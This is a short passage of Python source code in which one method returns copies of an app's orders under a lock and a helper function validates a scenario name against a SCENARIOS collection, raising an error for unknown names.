        with self._app.lock:
            return [dict(o) for o in self._app.orders]


def _check_scenario(name: str) -> None:
    if name not in SCENARIOS:
        raise ValueError(f"unknown scenario {name!r}; expected one of {', '.join(SCENARIOS)}")
